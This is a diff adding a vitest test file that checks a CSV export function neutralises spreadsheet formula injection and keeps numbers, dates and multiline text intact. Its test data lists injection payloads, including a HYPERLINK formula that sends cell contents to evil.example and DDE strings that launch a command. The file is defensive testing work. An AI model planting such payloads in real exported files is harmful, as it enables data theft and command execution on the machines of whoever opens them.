@@ -1,0 +1,73 @@
+import { expect, test } from 'vitest';
+import { csvRow } from './csv.ts';
+
+/** The cell as a spreadsheet reads it. */
+function cellOf(text: string): string {
+  const [, quoted = ''] = /^"(.*)"\r\n$/s.exec(csvRow([text])) ?? [];
+  return quoted.replaceAll('""', '"');
+}
+
+const attacks = [
+  '=1+1',
+  '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
+  "=cmd|' /C calc'!A0",
+  '+94771234567',
+  '+1+cmd|x!A0',
+  '-2+3',
+  '@SUM(A1:A9)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '\r\n@SUM(A1)',
+  '   =1+1',
+  '\u00a0=1+1',
+  '\u200b=1+1',
+  '\ufeff=1+1',
+  '"=1+1',
+  "'=1+1",
+  ' " =1+1',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠SUM(A1)',
+  '﹦1+1',
+  '\u0000=1+1',
+];
+
+test.each(attacks)('what begins like a formula is a text: %j', (text) => {
+  expect(cellOf(text)).toMatch(/^'/);
+});
+
+test('a spreadsheet that splits at other signs finds no formula behind them either', () => {
+  expect(cellOf('Silva;=1+1')).toBe("Silva;'=1+1");
+  expect(cellOf('Silva; @SUM(A1)|-2')).toBe("Silva;' @SUM(A1)|'-2");
+  expect(cellOf('Silva\t=1+1')).toBe('Silva =1+1');
+});
+
+test.each(['007', '123456789012345678', '12/3', '2026-11-21', '1/2', '12E5'])(
+  'what a spreadsheet would make a number or a date of stays as it was written: %s',
+  (text) => {
+    expect(cellOf(text)).toBe(`'${text}`);
+  },
+);
+
+test.each([
+  'Dilani Silva',
+  'සුනිල් ප්‍රේමදාස',
+  '077 123 4567',
+  '24/1, Temple Road',
+  'Blue "gate"',
+  'a=b',
+  '2 × Joint Relief Oil 100 ml',
+  '',
+])('what is harmless stays as it was typed: %j', (text) => {
+  expect(cellOf(text)).toBe(text);
+});
+
+test('commas and quotes are quoted, numbers are numbers, and a row ends with both signs', () => {
+  expect(csvRow(['a,b', 'say "no"', 3800, 0])).toBe('"a,b","say ""no""",3800,0\r\n');
+});
+
+test('a text of several lines is one row of the file', () => {
+  expect(csvRow(['Blue gate\r\nCall first\n'])).toBe('"Blue gate / Call first"\r\n');
+});
